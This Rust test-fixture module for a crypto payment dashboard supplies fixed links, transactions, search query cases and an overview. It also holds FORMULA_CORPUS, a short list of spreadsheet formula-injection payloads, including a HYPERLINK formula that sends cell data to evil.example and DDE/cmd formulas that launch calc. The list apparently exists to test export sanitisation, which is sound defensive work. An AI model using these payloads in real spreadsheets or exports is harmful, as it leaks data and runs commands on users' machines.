//! Known data: the search table's rows, an Overview, an alert; and a process
//! id that has exited.

use super::*;

/// Known rows for the search table: links and transactions with chosen
/// descriptions, amounts, hashes, statuses, currencies and times.
pub fn search_fixture() -> (Vec<PaymentLink>, Vec<Transaction>) {
    let at = |minutes: i64| t0() - Duration::minutes(minutes);
    let l = |id: &str, minutes: i64, amount: &str, currency: &str, status: LinkStatus, description: Option<&str>| {
        PaymentLink {
            amount: dec(amount),
            currency: currency.into(),
            status,
            description: description.map(str::to_string),
            created_at: at(minutes),
            ..link(id)
        }
    };
    let links = vec![
        l("pl_8f2k3m", 60, "75.00", "USDT", LinkStatus::Paid, Some("Order #1234")),
        l("pl_8f2aaa", 50, "120.00", "USDC", LinkStatus::Active, Some("Invoice 88 – café")),
        l("pl_77a9zz", 40, "0.015", "BTC", LinkStatus::Expired, None),
        l("pl_66bb02", 30, "75", "USDT", LinkStatus::Active, Some("Order #7512 refund")),
        l("pl_55cc03", 20, "1500.50", "ETH", LinkStatus::Deactivated, Some("Hosting renewal #1234")),
        l("pl_44dd04", 3 * 24 * 60, "9.99", "USDT", LinkStatus::Active, Some("Ticket 42 – Berlin")),
    ];
    let t = |id: &str,
             link: &str,
             minutes: i64,
             amount: &str,
             currency: &str,
             status: TransactionStatus,
             hash: Option<&str>| {
        Transaction {
            payment_link_id: Some(link.into()),
            amount: dec(amount),
            currency: currency.into(),
            status,
            tx_hash: hash.map(str::to_string),
            created_at: at(minutes),
            ..txn(id)
        }
    };
    let mut transactions = vec![
        t("txn_a1", "pl_8f2k3m", 55, "75.00", "USDT", TransactionStatus::Settled, Some("0x9f3c5e7a11")),
        t("txn_a2", "pl_8f2k3m", 58, "75.00", "USDT", TransactionStatus::Failed, None),
        t("txn_b1", "pl_77a9zz", 35, "0.015", "BTC", TransactionStatus::Confirmed, Some("000000000019d6689c085ae1")),
        t("txn_c1", "pl_55cc03", 10, "1500.50", "ETH", TransactionStatus::Pending, None),
        t("txn_d1", "pl_66bb02", 5, "75", "USDT", TransactionStatus::Settled, Some("0x9f3d000000")),
    ];
    // Confirmed and settled some minutes after they were made; txn_a1 was
    // settled at t0 - 40 min, txn_d1 at t0 - 1 min.
    for (txn, confirmed, settled) in [(0, 50, Some(40)), (2, 30, None), (4, 4, Some(1))] {
        transactions[txn].confirmed_at = Some(at(confirmed));
        transactions[txn].settled_at = settled.map(at);
    }
    (links, transactions)
}

/// The search table: (query, kinds, the ids expected, newest first). Run
/// against every store backend over [`search_fixture`].
pub const SEARCH_CASES: &[(&str, crate::store::Kinds, &[&str])] = {
    use crate::store::Kinds::{Both, Links, Transactions};
    &[
        // An id, and an id prefix.
        ("pl_8f2k3m", Links, &["pl_8f2k3m"]),
        // A link id in Both finds the link and the payments made through it.
        ("pl_8f2k3m", Both, &["txn_a1", "txn_a2", "pl_8f2k3m"]),
        ("pl_8f2", Links, &["pl_8f2aaa", "pl_8f2k3m"]),
        // By when a payment was settled or confirmed (t0 is 2027-01-15 08:00 UTC).
        ("settled:2027-01-15", Both, &["txn_d1", "txn_a1"]),
        ("settled:2027-01-14", Transactions, &[]),
        ("confirmed:2027-01-14..2027-01-15 0.015", Both, &["txn_b1"]),
        ("settled:2027-01-15T07:20:00Z..2027-01-15T07:59:00Z", Transactions, &["txn_d1", "txn_a1"]),
        ("settled:2027-01-15T07:21:00Z..2027-01-15T07:58:00Z", Transactions, &[]),
        ("txn_a", Transactions, &["txn_a1", "txn_a2"]),
        // Words of a description, any case; a phrase; a word's prefix.
        ("order", Links, &["pl_66bb02", "pl_8f2k3m"]),
        ("ORDER 1234", Both, &["pl_8f2k3m"]),
        ("\"order #1234\"", Both, &["pl_8f2k3m"]),
        ("renew", Links, &["pl_55cc03"]),
        ("café", Links, &["pl_8f2aaa"]),
        // An amount: 75 finds 75.00 and 75 (and, as a prefix, order 7512).
        ("75", Both, &["txn_d1", "pl_66bb02", "txn_a1", "txn_a2", "pl_8f2k3m"]),
        ("751", Both, &["pl_66bb02"]),
        ("1500.5", Both, &["txn_c1", "pl_55cc03"]),
        ("0.015", Both, &["txn_b1", "pl_77a9zz"]),
        // A tx hash prefix.
        ("0x9f3c", Both, &["txn_a1"]),
        ("0x9f3", Transactions, &["txn_d1", "txn_a1"]),
        ("000000000019d6", Transactions, &["txn_b1"]),
        // A link id: the link and its transactions.
        ("link:pl_8f2k3m", Both, &["txn_a1", "txn_a2", "pl_8f2k3m"]),
        // Field filters, alone and combined.
        ("status:paid", Links, &["pl_8f2k3m"]),
        ("status:settled", Transactions, &["txn_d1", "txn_a1"]),
        ("currency:usdt status:active", Links, &["pl_66bb02", "pl_44dd04"]),
        ("amount:>=100", Both, &["txn_c1", "pl_55cc03", "pl_8f2aaa"]),
        ("amount:<1", Both, &["txn_b1", "pl_77a9zz"]),
        ("amount:75 currency:USDT", Transactions, &["txn_d1", "txn_a1", "txn_a2"]),
        ("order amount:>70 amount:<=75", Links, &["pl_66bb02", "pl_8f2k3m"]),
        ("from:2027-01-14", Links, &["pl_55cc03", "pl_66bb02", "pl_77a9zz", "pl_8f2aaa", "pl_8f2k3m"]),
        ("to:2027-01-12", Links, &["pl_44dd04"]),
        // Nothing found.
        ("nothing-like-this", Both, &[]),
        ("status:paid currency:BTC", Links, &[]),
    ]
};

/// The Overview as the mirror might answer for the day starting at `from`:
/// three currencies, hourly settled USDT volume, and a case of each kind
/// and a disabled webhook, dated relative to `now`.
pub fn overview_fixture(from: DateTime<Utc>, now: DateTime<Utc>) -> crate::store::Overview {
    use crate::cases::{Case, CaseKind};
    use crate::store::{CurrencyFigures, Figure, Overview};
    let figure = |count: u64, amount: &str| Figure { count, amount: dec(amount) };
    let money = vec![
        CurrencyFigures {
            currency: "BTC".into(),
            settled: figure(10, "0.35732652"),
            confirmed: figure(2, "0.08920672"),
            pending: Figure::default(),
            failed: figure(11, "0.2643227"),
            links_created: 1,
            links_paid: 1,
        },
        CurrencyFigures {
            currency: "USDC".into(),
            settled: figure(19, "24789.95"),
            confirmed: figure(3, "1944.00"),
            pending: figure(1, "1789.50"),
            failed: figure(6, "9690.49"),
            links_created: 1,
            links_paid: 0,
        },
        CurrencyFigures {
            currency: "USDT".into(),
            settled: figure(28, "13290.50"),
            confirmed: figure(5, "5168.98"),
            pending: figure(8, "10469.48"),
            failed: figure(22, "26815.93"),
            links_created: 5,
            links_paid: 1,
        },
    ];
    let volumes =
        ["0", "0", "1200.50", "0", "4683.00", "310", "0", "0", "2222", "75.00", "0", "0", "3300", "0", "1500"];
    let chart = (0..24)
        .map(|hour| (from + Duration::hours(hour), dec(volumes.get(hour as usize).copied().unwrap_or("0"))))
        .collect();
    let at = |minutes: i64| now - Duration::minutes(minutes);
    let case =
        |link_id: &str, met: &[CaseKind], currency: &str, amounts: (&str, &str), minutes: i64, about: &str| Case {
            link_id: link_id.into(),
            kind: met[0],
            met: met.to_vec(),
            currency: currency.into(),
            expected: Some(dec(amounts.0)),
            received: dec(amounts.1),
            since: at(minutes),
            description: (!about.is_empty()).then(|| about.to_string()),
            claimed: None,
            resolved: None,
            reopened: None,
        };
    let disabled =
        Webhook { url: "https://old.example.net/hook".into(), status: WebhookStatus::Disabled, ..hook("wh_old000") };
    Overview {
        money,
        chart_currency: Some("USDT".into()),
        chart,
        cases: vec![
            case(
                "pl_twice00001",
                &[CaseKind::PaidTwice, CaseKind::Overpaid],
                "USDC",
                ("1176.00", "2352.00"),
                300,
                "Invoice 5512",
            ),
            case("pl_short00001", &[CaseKind::Underpaid], "USDT", ("75.00", "74.10"), 160, "Order #1234"),
            case("pl_uncredited", &[CaseKind::NotCredited], "BTC", ("0.04460336", "0.04460336"), 150, "Ticket 3776"),
            case("pl_expired01", &[CaseKind::PaidLate], "USDT", ("1064.00", "1064.00"), 70, "Hosting renewal #7781"),
            case("pl_failed0054", &[CaseKind::FailedNeverPaid], "USDC", ("990.00", "0"), 54, ""),
            case("pl_stuck0047m", &[CaseKind::StuckPending], "USDT", ("541.99", "0"), 47, "Café order 2245"),
        ],
        disabled: vec![disabled],
    }
}

/// Answers every Overview request in `cmds` with `overview`, at `now`;
/// returns the commands the answers led to.
pub fn answer_overview(
    app: &mut App,
    cmds: Vec<Cmd>,
    overview: &crate::store::Overview,
    now: DateTime<Utc>,
) -> Vec<Cmd> {
    let mut next = Vec::new();
    for cmd in cmds {
        if let Cmd::Overview { request, .. } = cmd {
            next.extend(app.update(Msg::Overview { request, result: Ok(overview.clone()) }, now));
        }
    }
    next
}

/// Cells a merchant's customer could type into a description.
pub const FORMULA_CORPUS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "＝1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
];

/// An `[[alerts]]` table as the config file gives it, from `(key, value)`
/// pairs (`("when", "settled")`, `("bell", "")`…), said to be on `line`.
pub fn alert_entry(line: usize, pairs: &[(&str, &str)]) -> crate::app::alerts::AlertEntry {
    let mut entry = crate::app::alerts::AlertEntry { line, ..Default::default() };
    for (key, value) in pairs {
        let value = Some(value.to_string());
        match *key {
            "when" => entry.when = value,
            "case" => entry.case = value,
            "currency" => entry.currency = value,
            "min_amount" => entry.min_amount = value,
            "notify" => entry.notify = value,
            "bell" => entry.bell = true,
            _ => panic!("no {key} in an alert rule"),
        }
    }
    entry
}

/// The id of a process that ran and is gone (for leases of killed holders).
pub fn exited_pid() -> u32 {
    let exited = std::process::Command::new("true").spawn().and_then(|mut child| {
        let pid = child.id();
        child.wait().map(|_| pid)
    });
    exited.unwrap_or_else(|e| panic!("{e}"))
}
